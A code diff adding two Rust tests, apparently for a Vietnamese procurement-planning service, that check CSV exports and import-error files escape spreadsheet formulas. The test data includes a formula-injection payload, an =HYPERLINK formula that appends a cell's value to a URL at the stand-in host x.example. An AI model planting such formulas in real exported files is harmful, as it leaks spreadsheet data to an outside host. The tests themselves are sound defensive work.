@@ -473,3 +473,78 @@ db_test!(
         }
     }
 );
+
+db_test!(csv_text_cells_cannot_be_formulas, |db: TestDb| async move {
+    let c = Client::new(&db);
+    let unit = c.unit("D", "district", None).await;
+    let hyperlink = "=HYPERLINK(\"http://x.example/?d=\"&A2,\"Xem\")";
+    for name in ["=1+1", hyperlink, "+1", "-1", "@SUM(A1)"] {
+        c.package(package_body(unit, name)).await;
+    }
+    let r = c
+        .get(&format!(
+            "/api/v1/reports/packages?unit_id={unit}&plan_year=2019&format=csv"
+        ))
+        .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
+    let mut rows = csv::Reader::from_reader(r.text.trim_start_matches('\u{feff}').as_bytes());
+    let headers = rows.headers().expect("headers").clone();
+    let column = |title: &str| {
+        headers
+            .iter()
+            .position(|h| h == title)
+            .unwrap_or_else(|| panic!("no column {title} in {headers:?}"))
+    };
+    let (name, price) = (column("Tên gói thầu"), column("Giá gói thầu (đồng)"));
+    let mut names = Vec::new();
+    for row in rows.records() {
+        let row = row.expect("a row");
+        names.push(row[name].to_owned());
+        assert_eq!(&row[price], "500000000", "money stays a plain number");
+    }
+    assert_eq!(
+        names,
+        ["'=1+1", &format!("'{hyperlink}"), "'+1", "'-1", "'@SUM(A1)"]
+    );
+    // The JSON of the same report keeps the names as they are.
+    let j = c
+        .get(&format!(
+            "/api/v1/reports/packages?unit_id={unit}&plan_year=2019"
+        ))
+        .await
+        .json();
+    assert_eq!(j["rows"][0]["cells"]["name"], "=1+1");
+});
+
+db_test!(
+    import_error_csv_cannot_hold_formulas,
+    |db: TestDb| async move {
+        add_unit(&db.conn, "HN-HD", entity::UnitKind::District, None).await;
+        let c = Client::new(&db);
+        let file = "Mã đơn vị,Tên gói thầu,Năm kế hoạch,Lĩnh vực,Hình thức lựa chọn nhà thầu,Giá gói thầu,Qua mạng\n\
+                \"=HYPERLINK(\"\"http://x.example/\"\",\"\"Xem\"\")\",Gói,2019,HH,CHCT,100.000.000,Có\n\
+                HN-HD,Gói 2,2019,HH,CHCT,-5,Có\n";
+        let r = c
+            .post_bytes(
+                "/api/v1/imports/packages?errors=csv",
+                "text/csv",
+                file.as_bytes().to_vec(),
+            )
+            .await;
+        assert_eq!(r.status, 422, "{}", r.text);
+        let mut rows = csv::Reader::from_reader(r.text.trim_start_matches('\u{feff}').as_bytes());
+        let values: Vec<String> = rows
+            .records()
+            .map(|row| row.expect("a row")[2].to_owned())
+            .collect();
+        assert!(
+            values.contains(&"'=HYPERLINK(\"http://x.example/\",\"Xem\")".to_owned()),
+            "{values:?}"
+        );
+        assert!(values.contains(&"'-5".to_owned()), "{values:?}");
+        assert!(
+            values.iter().all(|v| !v.starts_with(['=', '+', '-', '@'])),
+            "{values:?}"
+        );
+    }
+);
